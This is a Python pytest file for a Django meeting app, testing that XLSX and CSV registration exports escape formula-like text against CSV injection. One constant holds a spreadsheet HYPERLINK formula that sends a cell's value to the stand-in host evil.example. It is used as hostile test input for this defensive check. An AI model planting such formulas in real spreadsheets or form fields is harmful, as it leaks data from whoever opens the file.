"""Exported spreadsheets never run what a delegate typed (OWASP CSV injection)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from rakor.spreadsheets import safe_cell
from tests.meetings.factories import InvitationFactory, MeetingFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&G2,"Klik")'


@pytest.mark.parametrize("text", ["=1+1", "+62812", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_starting_like_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


def test_numbers_and_ordinary_texts_stay_as_they_are():
    assert safe_cell(42) == 42 and safe_cell(-3) == -3
    assert safe_cell("197001012000031001") == "197001012000031001"
    assert safe_cell("Kepala Bidang") == "Kepala Bidang"


@pytest.fixture
def hostile_registration():
    meeting = MeetingFactory()
    RegistrationFactory(
        invitation=InvitationFactory(meeting=meeting), position=HOSTILE, nip="197001012000031001"
    )
    return meeting


def test_xlsx_export_stores_a_typed_formula_as_text(organiser_client, hostile_registration):
    url = reverse("meetings:registrations_export", args=[hostile_registration.pk, "xlsx"])
    sheet = openpyxl.load_workbook(io.BytesIO(organiser_client.get(url).content)).active
    position, nip, number = sheet["D2"], sheet["C2"], sheet["A2"]

    assert position.data_type == "s" and position.value == "'" + HOSTILE
    assert nip.data_type == "s" and nip.value == "197001012000031001"
    assert number.data_type == "n" and number.value == 1


def test_csv_export_starts_a_typed_formula_with_a_quote(organiser_client, hostile_registration):
    url = reverse("meetings:registrations_export", args=[hostile_registration.pk, "csv"])
    text = b"".join(organiser_client.get(url).streaming_content).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]

    assert row[3] == "'" + HOSTILE
    assert row[2] == "197001012000031001"
